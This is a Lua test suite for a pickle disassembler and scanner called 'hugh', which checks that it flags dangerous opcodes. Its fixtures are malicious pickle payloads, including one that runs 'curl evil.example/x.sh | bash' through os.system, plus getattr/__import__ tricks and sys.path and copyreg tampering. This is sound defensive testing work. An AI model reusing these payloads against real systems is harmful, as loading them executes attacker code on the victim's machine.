-- What `hugh explain` shows: the program, and the opcodes as pickletools writes them.
local hugh = require "hugh"

local function unhex(text)
  return (text:gsub("%x%x", function(pair) return string.char(tonumber(pair, 16)) end))
end

local function opcodes(data)
  local entry = assert(hugh.explain({ data = data, name = "x.pkl" }, { opcodes = true }))
  local lines = {}
  for i, line in ipairs(entry.lines) do
    lines[i] = (line.offset and ("%5.0f: "):format(line.offset) or "") .. line.text
  end
  return table.concat(lines, "\n")
end

describe("explaining a pickle", function()
  it("disassembles as pickletools does", function()
    local pipe = assert(io.popen "env -u LD_PRELOAD PYTHONIOENCODING=utf-8:surrogatepass /usr/bin/python3 spec/oracle/pickletools_oracle.py")
    local ran, data, lines = 0, nil, {}
    for line in pipe:lines() do
      if not data then
        data = line
      elseif line ~= "" then
        lines[#lines + 1] = line
      else
        assert.are.equal(table.concat(lines, "\n"), opcodes(unhex(data)), data)
        ran, data, lines = ran + 1, nil, {}
      end
    end
    pipe:close()
    assert.is_true(ran > 500)
  end)

  it("shows the beginning of an argument that is very long, and goes on behind it", function()
    local data = "\128\2\141\112\17\1\0\0\0\0\0" .. ("x"):rep(70000) .. "0cos\nsystem\n."
    local texts = {}
    for _, line in ipairs(assert(hugh.explain({ data = data, name = "x.pkl" }, { opcodes = true })).lines) do texts[#texts + 1] = line.text end
    assert.is_truthy(texts[2]:find("^\\x8d BINUNICODE8 'x+' … and 68976 bytes more$"))
    assert.are.equal("c    GLOBAL     'os system'", texts[4])
    assert.are.equal("highest protocol among opcodes = 4", texts[6])
  end)

  it("says where a disassembly ends before the file does", function()
    local lines = assert(hugh.explain({ data = "N\255\255", name = "x.pkl" }, { opcodes = true })).lines
    assert.are.equal(1, lines[2].offset)
    assert.are.equal("here is no opcode that is whole: the listing ends", lines[2].text)
    for _, global in ipairs { ("a"):rep(200000) .. "\nb", "a\n" .. ("b"):rep(200000), ("a"):rep(65500) .. "\n" .. ("b"):rep(65500) } do
      lines = assert(hugh.explain({ data = "Nc" .. global .. "\n.", name = "x.pkl" }, { opcodes = true })).lines
      assert.are.equal(1, lines[2].offset)
      assert.are.equal(2, #lines)
    end
  end)

  it("says what is called with what", function()
    local entry = assert(hugh.explain { data = "cos\nsystem\n(S'curl evil.example/x.sh | bash'\ntR.", name = "x.pkl" })
    assert.are.equal("from os import system", entry.lines[1].text)
    assert.are.equal("os.system('curl evil.example/x.sh | bash')", entry.lines[2].text)
    assert.are.equal("dangerous", entry.lines[2].safety)
  end)

  it("follows names that are put together", function()
    local data = "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'true'\ntR."
    local report = assert(hugh.scan({ data = data, name = "x.pkl" }))
    local file = report.files and report.files[1] or report
    assert.are.equal("dangerous", file.safety)
    local called = {}
    for _, global in ipairs(file.globals) do called[global.module .. "." .. global.name] = global.called end
    assert.is_true(called["os.system"])
  end)

  it("marks state that changes the program", function()
    local entry = assert(hugh.explain { data = "\128\4clogging\ngetLogger\n\140\1x\133R}\140\8handlersNsb.", name = "x.pkl" })
    assert.are.equal("logging.getLogger('x').__setstate__({'handlers': None})", entry.lines[3].text)
    assert.are.equal("dangerous", entry.lines[3].safety)
  end)

  it("says what is changed, and what is imported by a name that is put together", function()
    local data = "\128\4ccopyreg\ndispatch_table\ncbuiltins\nint\ncos\nsystem\ns" -- SETITEM
      .. "0csys\nmodules\n(\140\1aN\140\1bNu" -- SETITEMS
      .. "0csys\npath\n\140\1.a" -- APPEND
      .. "0csys\npath\n(\140\1a\140\1be" -- APPENDS
      .. "0ccollections\nOrderedDict\n)R\140\1aNs" -- is what it is for
      .. "0cacme\nname\n)R\140\1x\147."
    local texts = {}
    for _, line in ipairs(assert(hugh.explain { data = data, name = "x.pkl" }).lines) do
      if not line.text:find "^from %l+ import" and not line.text:find "^return" then texts[#texts + 1] = line.safety .. " " .. line.text end
    end
    assert.are.same({
      "dangerous copyreg.dispatch_table[int] = os.system", "dangerous sys.modules.update({'a': None, 'b': None})", "dangerous sys.path.append('.')",
      "dangerous sys.path.extend(['a', 'b'])", "safe collections.OrderedDict()", "suspicious acme.name()", "dangerous from acme.name() import 'x'",
    }, texts)
  end)
end)
